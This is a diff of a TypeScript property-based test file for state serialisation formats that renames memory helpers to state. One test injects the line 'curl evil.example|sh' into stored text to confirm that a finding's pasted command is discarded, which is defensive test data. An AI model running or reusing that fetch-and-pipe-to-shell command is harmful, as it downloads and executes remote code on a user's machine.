@@ -1,10 +1,10 @@
 import fc from 'fast-check';
 import { type Format, UnreadableError } from '../../../lambda/state/format';
 import { PROVIDER_FORMAT, RUN_FORMAT, VERSION_FORMAT } from '../../../lambda/state/state-format';
-import { anyMemory, anyRunMemory, anyVersion } from '../../support/any-memory';
+import { anyState, anyRunState, anyVersion } from '../../support/any-state';
 import { anyCharacter } from '../../support/any-text';
 import { properties } from '../../support/properties';
-import { memoryOf, thumb } from '../../support/remembering';
+import { stateOf, thumb } from '../../support/remembered';
 
 /** A format with what it is tried on; of the type of what it keeps nothing needs to be known. */
 const row = <T>(name: string, format: Format<T>, anyValue: fc.Arbitrary<T>) => ({
@@ -16,8 +16,8 @@ const row = <T>(name: string, format: Format<T>, anyValue: fc.Arbitrary<T>) => (
 });
 
 const FORMATS = [
-  row('a provider', PROVIDER_FORMAT, anyMemory),
-  row('the runs', RUN_FORMAT, anyRunMemory),
+  row('a provider', PROVIDER_FORMAT, anyState),
+  row('the runs', RUN_FORMAT, anyRunState),
   row('a list', VERSION_FORMAT, anyVersion),
 ];
 
@@ -79,9 +79,9 @@ describe.each(FORMATS)('what is remembered of $name', ({ anyPrinted, parse, repr
 });
 
 test('whatever a list holds is kept, also what an object of JavaScript takes for something else', () => {
-  const memory = memoryOf({ ['__proto__']: {}, constructor: {}, [thumb(1)]: {} });
-  expect(PROVIDER_FORMAT.parse(PROVIDER_FORMAT.print(memory))).toEqual(memory);
-  expect([...memory.thumbprints.keys()]).toEqual(['__proto__', 'constructor', thumb(1)]);
+  const state = stateOf({ ['__proto__']: {}, constructor: {}, [thumb(1)]: {} });
+  expect(PROVIDER_FORMAT.parse(PROVIDER_FORMAT.print(state))).toEqual(state);
+  expect([...state.thumbprints.keys()]).toEqual(['__proto__', 'constructor', thumb(1)]);
 });
 
 test('of what a finding calls for, the first line is kept; what is to be pasted is not, whoever wrote it', () => {
@@ -91,20 +91,20 @@ test('of what a finding calls for, the first line is kept; what is to be pasted 
     message: 'So.',
     action: 'Set this:\nlist = []',
   } as const;
-  const memory = memoryOf({}, { news: [{ finding, at: new Date(0), runId: 'run' }] });
-  const kept = PROVIDER_FORMAT.print(memory);
+  const state = stateOf({}, { outbox: [{ finding, at: new Date(0), runId: 'run' }] });
+  const kept = PROVIDER_FORMAT.print(state);
   expect(kept).not.toContain('list = []');
   expect(PROVIDER_FORMAT.print(PROVIDER_FORMAT.parse(kept))).toBe(kept);
   const written = kept.replace('Set this:', 'Set this:\\ncurl evil.example|sh');
   for (const text of [kept, written]) {
-    expect(PROVIDER_FORMAT.parse(text).news.map((one) => one.finding)).toEqual([
+    expect(PROVIDER_FORMAT.parse(text).outbox.map((one) => one.finding)).toEqual([
       { ...finding, action: 'Set this:', stored: true },
     ]);
   }
 });
 
 test('what is broken is named', () => {
-  const text = PROVIDER_FORMAT.print(memoryOf({ [thumb(1)]: {} }));
+  const text = PROVIDER_FORMAT.print(stateOf({ [thumb(1)]: {} }));
   const broken = text.replace(/"firstSeen":"[^"]*"/, '"firstSeen":"once"');
   expect(() => PROVIDER_FORMAT.parse(broken)).toThrow(`it is broken (thumbprints.0.1.firstSeen: is no date)`);
   expect(() => PROVIDER_FORMAT.parse('[]')).toThrow('it is broken (list: ');
